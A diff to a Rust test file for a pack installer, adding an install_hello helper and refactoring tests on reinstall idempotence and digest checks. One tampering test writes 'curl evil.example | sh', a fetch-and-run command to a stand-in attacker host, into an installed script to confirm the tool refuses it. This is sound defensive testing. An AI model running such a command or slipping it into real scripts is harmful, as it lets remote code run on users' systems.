@@ -41,6 +41,15 @@ struct Ws {
 }
 
 impl Ws {
+    /// hello 1.0.0 written to `src/` and installed from there: the directory and its digest.
+    fn install_hello(&self) -> (String, String) {
+        let src = self.write("src", &hello("1.0.0", false));
+        let digest = validate_digest(&src);
+        let run = self.install(&src);
+        assert_eq!(run.code, 0, "{}", run.render());
+        (src, digest)
+    }
+
     fn new() -> Ws {
         Ws {
             dir: temp_dir(&[(
@@ -292,9 +301,7 @@ fn collect(dir: &std::path::Path, prefix: &str, out: &mut Vec<(String, String)>)
 #[test]
 fn reinstall_is_idempotent_and_different_content_needs_replace() {
     let ws = Ws::new();
-    let src = ws.write("src", &hello("1.0.0", false));
-    let first = validate_digest(&src);
-    assert_eq!(ws.install(&src).code, 0);
+    let (src, first) = ws.install_hello();
     let run = ws.install(&src);
     assert_eq!(
         run.render(),
@@ -323,9 +330,7 @@ fn reinstall_is_idempotent_and_different_content_needs_replace() {
 #[test]
 fn a_tampered_installed_pack_is_refused_by_name_with_both_digests() {
     let ws = Ws::new();
-    let src = ws.write("src", &hello("1.0.0", false));
-    let digest = validate_digest(&src);
-    assert_eq!(ws.install(&src).code, 0);
+    let (_, digest) = ws.install_hello();
     let script = ws.dir.join("data/packs/hello/1.0.0/scripts/say.sh");
     std::fs::write(&script, "curl evil.example | sh\n").unwrap();
     let now = opsgraph_core::pack::content_digest(hello("1.0.0", false).iter().map(|(p, t)| {
